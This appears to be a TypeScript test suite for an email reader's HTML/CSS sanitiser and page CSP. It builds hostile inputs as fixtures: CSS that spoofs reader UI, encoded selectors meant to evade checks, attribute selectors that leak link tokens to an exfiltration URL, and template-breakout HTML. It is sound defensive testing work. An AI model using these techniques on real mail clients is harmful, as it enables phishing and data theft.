import { strict as assert } from 'node:assert';
import { parse as parseCss, type Rule } from 'postcss';
import * as parse5 from 'parse5';
import { scopeSelectorList } from '../../src/core/render/cssScope';
import { renderMessage, renderToStandaloneHtml } from '../../src/core/render/render';
import { MAX_HTML_CHARS, sanitizeHtml } from '../../src/core/render/sanitize';
import { remoteOrigins, threadPageHtml, webviewCsp, type PageMessage } from '../../src/core/threads/page';
import { loadHostileCorpus } from '../support/hostileCorpus';
import { rawMessage } from '../support/rawmail';

// Message CSS may style only its own message (issue 16). These tests build the attacks from
// parts (targets × encodings × combinators) rather than listing the known examples.

/** The rules of the first <style> in sanitised output, as postcss reads them (media rules flattened). */
function rulesOf(html: string): Rule[] {
  const m = /<style>([\s\S]*?)<\/style>/.exec(html);
  if (!m) return [];
  const out: Rule[] = [];
  parseCss(m[1]).walkRules((r) => void out.push(r));
  return out;
}

function styleOf(css: string, allowRemote = false): string {
  return /<style>([\s\S]*?)<\/style>/.exec(sanitizeHtml(`<style>${css}</style><p>x</p>`, { allowRemote }).html)?.[1] ?? '';
}

/** Every way we know to write an identifier so that a naive check misses it. */
function encodings(ident: string): string[] {
  const hex = (c: string): string => `\\${c.codePointAt(0)!.toString(16)} `;
  return [
    ident,
    ident.toUpperCase(),
    [...ident].map(hex).join(''),
    ident.replace(/d/g, '\\64 ').replace(/m/g, '\\6d'),
    ident.replace(/-/g, '\\-'),
    ident.replace(/([a-z])/, '\\$1'),
    `${ident.slice(0, 2)}/**/${ident.slice(2)}`,
  ];
}

// The reader's own elements, by every kind of selector that could name them.
const READER_TARGETS = [
  ...['md-banner', 'md-btn', 'md-body', 'md-part', 'md-head', 'md-subject', 'md-from', 'md-meta', 'md-actions', 'md-toggle', 'maildesk-banner'].flatMap((c) => encodings(c).map((e) => `.${e}`)),
  ...encodings('md-status').map((e) => `#${e}`),
  ':host', ':host(.md-part)', ':host-context(body)', '::slotted(p)', '::part(x)', ':scope', 'html', 'body', ':root', 'HTML', 'Body', '\\62 ody', 'h\\74ml',
];

describe('message CSS: scoped to its own message', function () {
  this.timeout(60_000);
  it('scopes every kept selector to the message box; nothing names the reader, the host or the page', () => {
    const combos = ['', ' ', ' > ', ' + ', ' ~ '];
    let kept = 0;
    for (const target of READER_TARGETS) {
      for (const comb of combos) {
        for (const sel of [`${target}`, `${target}${comb}p`, `p${comb || ' '}${target}`, `:is(${target})`, `:not(${target}) x`, `div:has(${target})`, `${target}, p`]) {
          const css = styleOf(`${sel}{display:none!important;color:red}`);
          for (const r of rulesOf(`<style>${css}</style>`)) {
            for (const s of r.selectors) {
              kept++;
              assert.ok(s === '.md-mail' || s.startsWith('.md-mail '), `${sel} → ${s}`);
              const rest = s.replace(/^\.md-mail ?/, '');
              assert.doesNotMatch(rest, /md-|maildesk|:host|:scope|::slotted|::part|(?<![-\w])(?:html|body)(?![-\w])|:root|\\/i, `${sel} → ${s}`);
            }
          }
        }
      }
    }
    // `body`, `html`, `:root` and `p` themselves are kept (as the message's own box): the test saw rules.
    assert.ok(kept > 20, `only ${kept} rules kept: the test checked nothing`);
  });

  it('turns the message\'s html, body and :root into its own box, keeps its other rules, drops what cannot be scoped', () => {
    assert.equal(
      styleOf('body{background:#eee;font:100px "y"} html body > table td{padding:0} :root .x{color:red} *{color:red} p:first-child::before{content:"»"}'),
      '.md-mail{background:#eee;font:100px "y"}.md-mail table td{padding:0}.md-mail .x{color:red}.md-mail *{color:red}.md-mail p:first-child::before{content:"»"}',
    );
    // Things that would name the document around the message, or that we cannot read for sure.
    for (const sel of ['body + p', 'p body', 'html.dark p', 'body[yahoo] .x', 'p:lang(de)', 'p:dir(rtl)', 'ns|p', '*|p', 'p::-webkit-scrollbar', 'p:state(x)', ':is(html) p', 'p:nth-child(2n of .x)']) {
      assert.equal(styleOf(`${sel}{color:red}`), '', sel);
    }
  });

  it('the cases the issue found: each is dropped or kept inside the message', () => {
    const css = styleOf(
      '.md-btn[data-md-action="allowSender"]::after{content:"Show full message"} .m\\64-banner{display:none} .md-from::after{content:"IT Support"} ' +
        '.md-subject{visibility:hidden} .md-actions{display:none} .md-body{contain:none!important} *{color:red} body{font:100px "y"} html{filter:invert(1);zoom:3}',
    );
    // zoom may only shrink (cssCost.ts: nested zooms multiply), so 3 is kept as 1.
    assert.equal(css, '.md-mail *{color:red}.md-mail{font:100px "y"}.md-mail{filter:invert(1);zoom:1}');
  });

  it('is a fixed point: scoping the scoped CSS again changes nothing', () => {
    const css = styleOf('body{margin:0} .a > .b, td[class*=col]{color:red} @media (max-width:600px){.a{display:block!important}} p:not(.x):nth-child(2n+1){x:y}');
    assert.ok(css.length > 50);
    assert.equal(styleOf(css), css);
  });

  it('no rule reaches the box that contains the message, with or without !important', () => {
    for (const t of ['.md-body', '.md-part', ':host', ':host(*)', 'body', 'html', ':root']) {
      const css = styleOf(`${t}{contain:none!important;overflow:visible!important;position:static!important;transform:scale(9)!important}`);
      for (const r of rulesOf(`<style>${css}</style>`)) for (const s of r.selectors) assert.ok(s.startsWith('.md-mail'), `${t} → ${s}`);
    }
    assert.equal(scopeSelectorList('.md-body'), undefined);
    assert.equal(scopeSelectorList(':host'), undefined);
  });

  it('names each selector\'s subject: its type, classes and ids outside :not()/:is(), and whether it makes generated content', () => {
    assert.deepEqual(scopeSelectorList('div > I.a.b#c::after, :not(.x):before, body p, ul li::marker')?.subjects, [
      { type: 'i', classes: ['a', 'b'], ids: ['c'], generates: true },
      { type: '', classes: [], ids: [], generates: true },
      { type: 'p', classes: [], ids: [], generates: false },
      { type: 'li', classes: [], ids: [], generates: false },
    ]);
  });

  it('never pins anything to the window (fixed or sticky), in blocks or in attributes, however it is written', () => {
    for (const v of ['fixed', 'FIXED', 'sticky', '-webkit-sticky', 'f\\69xed', 'fix/**/ed']) {
      const r = sanitizeHtml(`<style>.x{position:${v};top:0}</style><div class="x" style="position:${v};top:0">x</div>`, { allowRemote: false });
      assert.doesNotMatch(r.html.replace(/\\/g, ''), /position:\s*(?:-webkit-)?(?:fixed|sticky)/i, v);
    }
  });
});

describe('message CSS: reads no data it should not see', function () {
  this.timeout(60_000);
  // Attributes that carry link targets, what we add, or anything but presentation.
  const DATA_ATTRS = ['title', 'href', 'data-maildesk-href', 'data-maildesk-cid', 'data-maildesk-blocked', 'src', 'srcset', 'alt', 'style', 'datetime', 'id', 'name', 'value', 'data-x'];
  const OPS = ['=', '^=', '$=', '*=', '~=', '|='];

  it('drops every attribute selector that compares a data attribute, however it is spelled', () => {
    for (const a of DATA_ATTRS) {
      for (const name of encodings(a)) {
        for (const op of OPS) {
          for (const sel of [`a[${name}${op}"https://bank.example/reset?token=7"]`, `a[ ${name} ${op} x i ]`, `:has([${name}${op}x])`, `p:not([${name}${op}'y']) a`]) {
            const css = styleOf(`${sel}{background:url(https://t.example/exfil.png)}`, true);
            assert.equal(css, '', `${sel} kept: ${css}`);
          }
        }
      }
    }
  });

  it('keeps presence tests and value tests on presentational attributes the message wrote itself', () => {
    assert.equal(styleOf('td[class*=col]{width:100%} a[href]{color:red} [align="center" i]{x:y}'), '.md-mail td[class*="col"]{width:100%}.md-mail a[href]{color:red}.md-mail [align="center" i]{x:y}');
  });

  it('copies no link target into an attribute other than the one the reader reads', () => {
    for (const href of ['https://bank.example/reset?token=7', 'mailto:it@bank.example', 'http://x.example/a b']) {
      const r = sanitizeHtml(`<a href="${href}">reset</a><a href="${href}" title="Sender's title">t</a>`, { allowRemote: true });
      const target = new URL(href).href.replace(/&/g, '&amp;');
      const attrs = [...r.html.matchAll(/([a-z-]+)="([^"]*)"/g)].filter((m) => m[2] === target).map((m) => m[1]);
      assert.deepEqual(attrs, ['data-maildesk-href', 'data-maildesk-href'], r.html);
      assert.match(r.html, /title="Sender&#39;s title"|title="Sender's title"/, 'the sender\'s own title stays');
    }
  });

  it('with remote content allowed, keeps unconditional url()s but none in rules that hover, focus, visited or a media query decide', () => {
    const cond = ['p:hover', 'a:focus', 'a:visited', 'p:focus-within', 'p:active', 'p:not(:hover)', ':is(p:hover) b', 'p:target'];
    for (const sel of cond) {
      const r = sanitizeHtml(`<style>${sel}{background:url(https://t.example/c.png);color:red}</style>`, { allowRemote: true });
      assert.doesNotMatch(r.html, /t\.example/, sel);
      assert.match(r.html, /color:red/, `${sel}: the rule itself stays`);
      assert.deepEqual(r.blocked, [{ kind: 'image', url: 'https://t.example/c.png' }], sel);
    }
    for (const q of ['(prefers-color-scheme: dark)', '(min-width: 600px)', 'print', '(hover: hover)']) {
      const r = sanitizeHtml(`<style>@media ${q}{p{background:url(https://t.example/m.png);color:red}}</style>`, { allowRemote: true });
      assert.doesNotMatch(r.html, /t\.example/, q);
      assert.match(r.html, /@media/, q);
    }
    const plain = sanitizeHtml('<style>p.hero{background:url(https://t.example/hero.png)}</style>', { allowRemote: true });
    assert.match(plain.html, /\.md-mail p\.hero\{background:url\("https:\/\/t\.example\/hero\.png"\)\}/);
    assert.deepEqual(plain.blocked, []);
  });
});

describe('message HTML: one budget per message, and notices', function () {
  this.timeout(60_000);
  function mixed(parts: string[]): Buffer {
    const body = parts.map((p) => `--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${p}\r\n`).join('');
    return Buffer.from(`From: a@example.org\r\nTo: b@example.org\r\nSubject: Big\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n${body}--b--\r\n`);
  }

  it('renders at most MAX_HTML_CHARS of HTML for the whole message, and says the rest is not shown', async () => {
    const part = `<p>${'x'.repeat(1_500_000)}</p>`;
    const r = await renderMessage(mixed([part, part, part, part, part]), { allowRemote: false }, { maxBytes: 64 * 1024 * 1024 });
    assert.equal(r.bodies.length, 5);
    const shown = r.bodies.reduce((n, b) => n + b.html.length, 0);
    assert.ok(shown <= MAX_HTML_CHARS + 1000, `${shown} characters of HTML shown`);
    assert.ok(shown > MAX_HTML_CHARS - 10_000, 'the budget is used, not thrown away');
    assert.deepEqual(r.bodies.map((b) => !!b.truncated), [false, false, true, true, true]);
    assert.match(renderToStandaloneHtml(r), /Part of the HTML was too long and is not shown\./);
    const page = threadPageHtml('Big', [pageMessage(r)], { csp: '', interactive: false });
    assert.match(page, /<div class="md-warn" role="note">[^<]*Part of the HTML was too long and is not shown\./);
  });

  it('says so when a <style> block is dropped (too large or unreadable), and not otherwise', async () => {
    const big = `.a{color:red}${' '.repeat(600 * 1024)}`;
    const r = await renderMessage(Buffer.from(rawMessage({ from: 'a@example.org', to: 'b@example.org', subject: 's', html: `<style>${big}</style><style>p{color:blue}</style><p>x</p>` })), { allowRemote: false });
    assert.equal(r.bodies[0].stylesDropped, 1);
    assert.match(r.bodies[0].html, /\.md-mail p\{color:blue\}/, 'the other style block is kept');
    const page = threadPageHtml('s', [pageMessage(r)], { csp: '', interactive: false });
    assert.match(page, /A style block of this message could not be used \(too large or unreadable\)/);
    const ok = await renderMessage(Buffer.from(rawMessage({ from: 'a@example.org', to: 'b@example.org', subject: 's', html: '<style>p{color:blue}</style><p>x</p>' })), { allowRemote: false });
    assert.equal(ok.bodies[0].stylesDropped, undefined);
    assert.doesNotMatch(threadPageHtml('s', [pageMessage(ok)], { csp: '', interactive: false }), /style block/);
  });
});

function pageMessage(rendered: Awaited<ReturnType<typeof renderMessage>>): PageMessage {
  return { id: 1, from: rendered.parsed.from, to: rendered.parsed.to, cc: [], unread: false, expanded: true, folderNames: [], rendered, remoteAllowed: false };
}

type P5 = { nodeName: string; tagName?: string; attrs?: Array<{ name: string; value: string }>; childNodes?: P5[]; content?: P5 };

/** Elements of the page outside every template's content (what the page's CSS and script see). */
function outsideTemplates(html: string): string[] {
  const out: string[] = [];
  const walk = (n: P5): void => {
    if (n.tagName) out.push(`${n.tagName}.${n.attrs?.find((a) => a.name === 'class')?.value ?? ''}`);
    for (const c of n.childNodes ?? []) walk(c);
  };
  walk(parse5.parse(html) as unknown as P5);
  return out;
}

describe('thread page: each part in its own shadow root', () => {
  it('puts all of every hostile message inside its part\'s declarative shadow root, the reader outside', async function () {
    this.timeout(60_000);
    const spoofs = [
      '<style>.md-banner{display:none}</style><p>x</p>',
      '</div></template><button data-md-action="allowSender" data-md-id="1">Show</button><template>',
      '<div class="md-actions"><p>fake</p></div></section></div><h1 class="md-subject">Invoice paid</h1>',
      '<template shadowrootmode="open"><p>nested</p></template><p>after</p>',
    ].map((html, i) => ({ id: `spoof-${i}`, html }));
    const cases = [...loadHostileCorpus(), ...spoofs];
    assert.ok(cases.length > 10);
    for (const c of cases) {
      const rendered = await renderMessage(Buffer.from(rawMessage({ from: 'Mallory <m@example.org>', to: 'b@example.org', subject: c.id, html: c.html })), { allowRemote: true });
      const page = threadPageHtml(c.id, [pageMessage(rendered)], { csp: '', interactive: true });
      const empty = threadPageHtml(c.id, [pageMessage({ ...rendered, bodies: rendered.bodies.map((b) => ({ ...b, html: '' })) })], { csp: '', interactive: true });
      // Parsed like a browser: the message adds no element to the page outside its template.
      assert.deepEqual(outsideTemplates(page), outsideTemplates(empty), c.id);
      assert.equal((page.match(/<template shadowrootmode="open">/g) ?? []).length, rendered.bodies.length, c.id);
    }
  });
});

describe('thread page CSP: remote content allowed for one message opens only what it loads', () => {
  it('lists the origins of the URLs the allowed messages keep, and nothing for a page without them', () => {
    const r = sanitizeHtml(
      '<img src="https://cdn.shop.example/a.png"><img src="http://img.shop.example:8080/b.png" srcset="https://cdn.shop.example/a2.png 2x"><p style="background:url(https://bg.example/x.png)">x</p><img src="https://[::1]/v6.png">',
      { allowRemote: true },
    );
    assert.deepEqual(remoteOrigins(r.loaded ?? []), ['http://img.shop.example:8080', 'https:', 'https://bg.example', 'https://cdn.shop.example']);
    const csp = webviewCsp('vscode-webview:', 'n', remoteOrigins(r.loaded ?? []));
    assert.match(csp, /img-src vscode-webview: data: http:\/\/img\.shop\.example:8080 https: https:\/\/bg\.example https:\/\/cdn\.shop\.example;/);
    assert.match(webviewCsp('vscode-webview:', 'n', []), /img-src vscode-webview: data:;/);
    assert.equal(sanitizeHtml('<img src="https://cdn.shop.example/a.png">', { allowRemote: false }).loaded, undefined);
  });

  it('opens font-src to the webview\'s own resource root only when the page loads the codicon font, never to remote origins or data:', () => {
    const withFonts = webviewCsp('https://res.vscode-cdn.example', 'n', true, true);
    assert.match(withFonts, /(^|; )font-src https:\/\/res\.vscode-cdn\.example;/);
    assert.doesNotMatch(withFonts, /font-src[^;]*(https:(?!\/\/res)|http:|data:)/, 'remote content allowed for images does not open fonts');
    assert.doesNotMatch(webviewCsp('https://res.vscode-cdn.example', 'n', true), /font-src/, 'no font-src unless asked (default-src none blocks fonts)');
  });

  it('falls back to schemes past a bound, rather than writing an endless policy', () => {
    const many = Array.from({ length: 100 }, (_, i) => `https://h${i}.example/x.png`);
    assert.deepEqual(remoteOrigins(many, 64), ['https:']);
  });
});
